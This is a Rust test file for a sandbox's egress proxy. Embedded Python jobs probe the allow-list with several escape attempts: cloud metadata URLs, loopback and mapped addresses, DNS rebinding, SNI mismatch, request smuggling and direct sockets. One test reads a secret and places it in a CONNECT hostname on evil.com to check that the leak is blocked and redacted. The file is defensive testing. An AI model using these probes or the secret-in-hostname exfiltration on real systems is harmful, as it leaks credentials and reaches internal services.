//! Jobs on both engines, with real code that tries.

use std::sync::Arc;

use serde_json::{Value, json};
use tako_vm::config::{Config, JobType, Network as Allowed};
use tako_vm::domain::{EgressObserved, EgressRefusal, Event};
use uuid::Uuid;

use super::outside::Outside;
use crate::world::{Choice, World};
use crate::{docker, native};

pub const PUBLIC: &str = "93.184.216.34";

/// What every program here can use.
pub const TOOLS: &str = r#"
import base64, json, os, socket, ssl, sys, threading, urllib.error, urllib.parse, urllib.request

proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])
own = base64.b64encode(f'{proxy.username}:{proxy.password}'.encode()).decode()

def answer(connection):
    data = b''
    try:
        while b'\r\n\r\n' not in data:
            piece = connection.recv(4096)
            if not piece:
                break
            data += piece
    except ConnectionError:
        pass
    return data

def ask(text, credentials=own):
    connection = socket.create_connection((proxy.hostname, proxy.port), 20)
    head = f'{text} HTTP/1.1\r\n'
    if credentials is not None:
        head += f'Proxy-Authorization: Basic {credentials}\r\n'
    connection.sendall((head + '\r\n').encode())
    return connection

def status(text, credentials=own):
    return answer(ask(text, credentials)).split(b' ')[1].decode()

def hello(name):
    sent, bio = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    try:
        context.wrap_bio(bio, sent, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return sent.read()

def said_back(connection, data):
    connection.sendall(data)
    back = b''
    try:
        while len(back) < len(data):
            piece = connection.recv(65536)
            if not piece:
                break
            back += piece
    except ConnectionError:
        pass
    return back == data

def tunnel(target, name, first=None):
    connection = ask('CONNECT ' + target)
    if answer(connection).split(b' ')[1] != b'200':
        return 'no tunnel'
    if not said_back(connection, first or hello(name)):
        return 'closed'
    return said_back(connection, b'more') and 'open'
"#;

pub struct Site {
    pub world: World,
    pub outside: Arc<Outside>,
}

impl Site {
    async fn new(choice: Choice, allow: &[&str], names: &[(&str, &[&[&str]])]) -> Self {
        Self::on(Outside::new(names).await, choice, allow).await
    }

    pub async fn on(outside: Arc<Outside>, choice: Choice, allow: &[&str]) -> Self {
        let allow = allow.iter().map(|rule| (*rule).to_owned()).collect();
        let job_type =
            JobType { name: "online".to_owned(), network: Allowed { enabled: true, allow }, ..JobType::default() };
        let configure = |config: &mut Config| {
            config.secrets.key = tako_vm::config::Secret::new("5a".repeat(32));
            config.job_types.insert("online".to_owned(), job_type);
        };
        let world = World::start_in(outside.clone(), configure, choice).await;
        Self { world, outside }
    }

    /// The JSON that the code prints, and what the log says of its traffic.
    async fn run(&self, code: &str) -> (Value, EgressObserved) {
        let id = self.submit(json!({"code": format!("{TOOLS}{code}"), "job_type": "online"})).await;
        let record = self.world.ended(id).await;
        assert_eq!(record["status"], "succeeded", "{record:#}");
        let printed = serde_json::from_str(record["stdout"].as_str().unwrap()).unwrap();
        (printed, self.observed(id).await)
    }

    pub async fn submit(&self, body: Value) -> Uuid {
        let (status, accepted) = self.world.post("/jobs", body).await;
        assert_eq!(status, 202, "{accepted}");
        accepted["execution_id"].as_str().unwrap().parse().unwrap()
    }

    pub async fn observed(&self, id: Uuid) -> EgressObserved {
        let events = self.world.events(id).await;
        let mut observed = events.into_iter().filter_map(|envelope| match envelope.event {
            Event::EgressObserved(observed) => Some(observed),
            _ => None,
        });
        let first = observed.next().expect("the job's traffic is in the log");
        assert!(observed.next().is_none());
        self.world.check(id).await;
        first
    }
}

async fn allowed_hosts_are_reached(choice: Choice) {
    let names: &[(&str, &[&[&str]])] =
        &[("api.example.com", &[&[PUBLIC]]), ("a.b.example.org", &[&["2606:4700::1111"]])];
    let site = Site::new(choice, &["api.example.com", "*.example.org:8443"], names).await;
    let (said, observed) = site
        .run(
            r#"
def get(url, data=None):
    return urllib.request.urlopen(url, data, 20).read().decode()

big = []
threads = [threading.Thread(target=lambda: big.append(len(get('http://api.example.com/big')))) for _ in range(3)]
small = []
threads += [threading.Thread(target=lambda: small.append(get('http://api.example.com/n')[:4])) for _ in range(40)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
json.dump({
    'get': get('http://api.example.com/x?y=1'),
    'post': get('http://api.example.com/x', b'z' * 300000)[-16:],
    'tls': tunnel('api.example.com:443', 'api.example.com'),
    'wildcard': tunnel('a.b.example.org:8443', 'A.B.example.org'),
    'big': big,
    'small': len(small),
}, sys.stdout)
"#,
        )
        .await;
    assert!(said["get"].as_str().unwrap().starts_with("GET /x?y=1 HTTP/1.1\r\nHost: api.example.com\r\n"), "{said:#}");
    assert!(!said["get"].as_str().unwrap().to_lowercase().contains("proxy-"), "{said:#}");
    assert_eq!(
        (&said["post"], &said["tls"], &said["wildcard"]),
        (&json!("and 300000 bytes"), &json!("open"), &json!("open"))
    );
    assert_eq!((&said["big"], &said["small"]), (&json!([5 << 20, 5 << 20, 5 << 20]), &json!(40)));
    let hosts: Vec<_> = observed.hosts.iter().map(|host| (host.host.as_str(), host.port, host.connections)).collect();
    assert_eq!(hosts, [("a.b.example.org", 8443, 1), ("api.example.com", 80, 45), ("api.example.com", 443, 1)]);
    assert!(observed.hosts[1].bytes_sent > 300_000 && observed.hosts[1].bytes_received > 15 << 20, "{observed:#?}");
    assert_eq!((observed.refused, observed.unlisted), (vec![], 0));
    let connected = site.outside.connected();
    assert!(connected.iter().all(|address| address.ip().to_string() == PUBLIC || address.is_ipv6()), "{connected:?}");
}

async fn nothing_else_is_reached(choice: Choice) {
    let names: &[(&str, &[&[&str]])] = &[
        ("api.example.com", &[&[PUBLIC]]),
        ("other.example.com", &[&[PUBLIC]]),
        ("meta.example.org", &[&["169.254.169.254"]]),
        ("six.example.org", &[&["::1"]]),
        ("mapped.example.org", &[&["::ffff:127.0.0.1"]]),
        ("mixed.example.org", &[&[PUBLIC, "10.0.0.1"]]),
        ("rebind.example.org", &[&[PUBLIC], &["127.0.0.1"]]),
    ];
    let site = Site::new(choice, &["api.example.com", "*.example.org"], names).await;
    let (said, observed) = site
        .run(
            r#"
def direct(family, address):
    try:
        connection = socket.socket(family, socket.SOCK_STREAM)
        connection.settimeout(5)
        connection.connect(address)
        return 'connected'
    except OSError:
        return 'refused'

def resolve(name):
    try:
        return socket.getaddrinfo(name, 80) and 'resolved'
    except OSError:
        return 'refused'

two = ask('GET http://api.example.com/1')
two.sendall(b'GET /2 HTTP/1.1\r\nHost: other.example.com\r\n\r\n')
two = answer(two) + two.recv(65536)
wrong = base64.b64encode(b'job:' + b'0' * 32).decode()
json.dump({
    'other host': status('CONNECT other.example.com:443'),
    'other port': status('CONNECT api.example.com:22'),
    'plain other host': status('GET http://other.example.com/'),
    'address': status('CONNECT 93.184.216.34:443'),
    'odd address': status('GET http://0x7f.1/'),
    'metadata': status('GET http://169.254.169.254/latest/meta-data'),
    'metadata by name': status('GET http://meta.example.org/latest/meta-data'),
    'six': status('CONNECT [::1]:443'),
    'six by name': status('CONNECT six.example.org:443'),
    'mapped': status('CONNECT mapped.example.org:443'),
    'mixed': status('CONNECT mixed.example.org:443'),
    'unknown': status('CONNECT unknown.example.org:443'),
    'rebind first': tunnel('rebind.example.org:443', 'rebind.example.org'),
    'rebind then': tunnel('rebind.example.org:443', 'rebind.example.org'),
    'wrong name': tunnel('api.example.com:443', 'other.example.com'),
    'no name': tunnel('api.example.com:443', None),
    'not tls': tunnel('api.example.com:443', '', b'GET / HTTP/1.1\r\nHost: other.example.com\r\n\r\n'),
    'wrong credentials': status('CONNECT api.example.com:443', wrong),
    'no credentials': status('CONNECT api.example.com:443', None),
    'two requests': two.count(b'HTTP/1.1\r\nHost:'),
    'direct': direct(socket.AF_INET, ('93.184.216.34', 443)),
    'direct six': direct(socket.AF_INET6, ('2606:4700::1111', 443)),
    'gateway': direct(socket.AF_INET, ('172.17.0.1', 22)),
    'names': resolve('api.example.com'),
}, sys.stdout)
"#,
        )
        .await;
    assert_eq!(
        said,
        json!({
            "other host": "403", "other port": "403", "plain other host": "403", "address": "403", "odd address": "403",
            "metadata": "403", "metadata by name": "403", "six": "403", "six by name": "403", "mapped": "403",
            "mixed": "403", "unknown": "502", "rebind first": "open", "rebind then": "no tunnel",
            "wrong name": "closed", "no name": "closed", "not tls": "closed", "wrong credentials": "407",
            "no credentials": "407", "two requests": 1, "direct": "refused", "direct six": "refused",
            "gateway": "refused", "names": "refused",
        }),
        "{said:#}"
    );
    // Nobody resolves what is not allowed, and no address was met that was not looked at.
    let mut asked = site.outside.asked();
    asked.sort();
    asked.dedup();
    assert!(!asked.iter().any(|name| name.starts_with("other")), "{asked:?}");
    let connected = site.outside.connected();
    assert!(connected.iter().all(|address| address.ip().to_string() == PUBLIC), "{connected:?}");
    let count = |reason| -> u64 {
        observed.refused.iter().filter(|refused| refused.reason == reason).map(|refused| refused.count).sum()
    };
    assert_eq!(count(EgressRefusal::NotAllowed), 3, "{observed:#?}");
    assert_eq!(count(EgressRefusal::NotAName), 4, "{observed:#?}");
    assert_eq!(count(EgressRefusal::NotPublic), 5, "{observed:#?}");
    assert_eq!(count(EgressRefusal::WrongServerName), 3, "{observed:#?}");
    assert_eq!(count(EgressRefusal::WrongCredentials), 2, "{observed:#?}");
    assert_eq!(count(EgressRefusal::Unresolvable), 1, "{observed:#?}");
    let reached: Vec<_> = observed.hosts.iter().map(|host| (host.host.as_str(), host.port)).collect();
    assert_eq!(reached, [("api.example.com", 80), ("rebind.example.org", 443)]);
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_hosts_are_reached_on_the_native_engine() {
    allowed_hosts_are_reached(native::choice()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_hosts_are_reached_on_docker() {
    allowed_hosts_are_reached(docker::choice().await).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_else_is_reached_on_the_native_engine() {
    nothing_else_is_reached(native::choice()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_else_is_reached_on_docker() {
    nothing_else_is_reached(docker::choice().await).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_job_type_without_a_network_has_no_gate_and_no_event() {
    let site = Site::new(native::choice(), &["api.example.com"], &[("api.example.com", &[&[PUBLIC]])]).await;
    let code = "import os, socket\n\
                print([name for name in os.environ if 'proxy' in name.lower()])\n\
                try: socket.create_connection(('127.0.0.1', 3128), 5); print('connected')\n\
                except OSError as error: print(type(error).__name__)\n";
    let id = site.submit(json!({ "code": code })).await;
    let record = site.world.ended(id).await;
    assert_eq!(record["stdout"], "[]\nConnectionRefusedError\n", "{record:#}");
    assert_eq!(
        site.world.event_names(id).await,
        ["JobSubmitted", "JobDequeued", "ExecutionStarted", "ExecutionSucceeded"]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_in_the_name_of_a_host_is_not_in_the_log() {
    let site = Site::new(native::choice(), &["api.example.com"], &[]).await;
    let put = site.world.http.put(format!("{}/secrets/KEY", site.world.url)).json(&json!({"value": "Hunter2Hunter2"}));
    assert!(put.send().await.unwrap().status().is_success());
    let code = format!(
        "{TOOLS}\nkey = open('/secrets/KEY').read()\n\
         print(status('CONNECT ' + key + '.evil.example.com:443'), status('CONNECT ' + key.encode().hex() + '.evil.com:443'))"
    );
    let id = site.submit(json!({"code": code, "job_type": "online", "secrets": ["KEY"]})).await;
    assert_eq!(site.world.ended(id).await["stdout"], "403 403\n");
    let observed = site.observed(id).await;
    assert!(observed.refused.iter().all(|refused| refused.host.as_deref() == Some("[secret]")), "{observed:?}");
    assert!(site.outside.asked().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_job_that_ends_or_is_killed_leaves_no_connection_and_says_what_it_did() {
    let site = Site::new(native::choice(), &["api.example.com"], &[("api.example.com", &[&[PUBLIC]])]).await;
    let code = format!(
        "{TOOLS}\nconnection = ask('CONNECT api.example.com:443')\nanswer(connection)\n\
         print(said_back(connection, hello('api.example.com')), flush=True)\nimport time\ntime.sleep(60)"
    );
    let id = site.submit(json!({"code": code, "job_type": "online", "timeout": 3})).await;
    let record = site.world.ended(id).await;
    assert_eq!((&record["status"], &record["stdout"]), (&json!("timeout"), &json!("True\n")), "{record:#}");
    let observed = site.observed(id).await;
    assert!(observed.hosts[0].bytes_sent > 200 && observed.hosts[0].bytes_sent == observed.hosts[0].bytes_received);
}
